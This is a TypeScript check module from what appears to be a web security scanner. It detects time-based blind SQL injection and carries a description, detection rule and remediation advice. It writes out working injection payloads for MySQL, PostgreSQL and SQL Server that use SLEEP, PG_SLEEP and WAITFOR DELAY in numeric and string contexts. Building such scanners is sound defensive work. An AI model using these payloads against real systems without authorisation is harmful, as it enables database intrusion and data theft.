import { defineInjection, type Point } from "../../attacks/injection.ts";
import { isNumeric, isScalar } from "../../attacks/insertion-points.ts";
import { examineWaits, mayWait, type Wait } from "../../attacks/waiting.ts";

export default defineInjection({
  id: "input-validation/sql-time",
  title: "SQL injection (time-based blind)",
  severity: "critical",
  confidence: "firm",
  description:
    "An SQL delay function in the value delays the response: the value becomes part of an SQL statement. An attacker can extract the database bit by bit, and often modify it.",
  rule: "Four responses to values that request different database delays, in random order, take as long as requested (within 150 ms), and the responses in between, without a delay, take as long as the baseline; all of it twice.",
  control: "The same value without a delay, after each delay, and baseline requests.",
  remediation: "Use prepared statements with bound parameters for all values, and validate their types.",
  references: {
    cwe: 89,
    owasp: "API8:2023",
    cvss: "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N",
  },
  cost: 4,
  prior: () => 0.3,
  language: "SQL",
  into: isScalar,
  notApplicable: "No read takes a string or a number.",
  mustExamine: (point, probe) => mayWait(WAITS, point, probe),
  examine: (point, probe) => examineWaits(WAITS, point, probe),
});

const isText = (point: Point): boolean => !isNumeric(point);

// None is true, so that no row is found more; each is a derived table, so that the wait is not one for each row.
const MYSQL = (seconds: string): string => `2=(SELECT 1 FROM (SELECT SLEEP(${seconds}))x)`;
const POSTGRESQL = (seconds: string): string => `2=(SELECT 1 FROM PG_SLEEP(${seconds}))`;
const SQL_SERVER = (seconds: string): string => `;WAITFOR DELAY '0:0:${seconds.padStart(4, "0")}'--`;

const WAITS: readonly Wait[] = [
  { name: "MySQL", payload: (value, seconds) => `${value} OR ${MYSQL(seconds)}`, where: isNumeric },
  { name: "PostgreSQL", payload: (value, seconds) => `${value} OR ${POSTGRESQL(seconds)}`, where: isNumeric },
  { name: "SQL Server", payload: (value, seconds) => value + SQL_SERVER(seconds), where: isNumeric },
  { name: "MySQL", payload: (value, seconds) => `${value}' OR ${MYSQL(seconds)} OR '1'='2`, where: isText },
  {
    name: "PostgreSQL",
    payload: (value, seconds) => `${value}' OR ${POSTGRESQL(seconds)} OR '1'='2`,
    where: isText,
  },
  { name: "SQL Server", payload: (value, seconds) => `${value}'${SQL_SERVER(seconds)}`, where: isText },
];
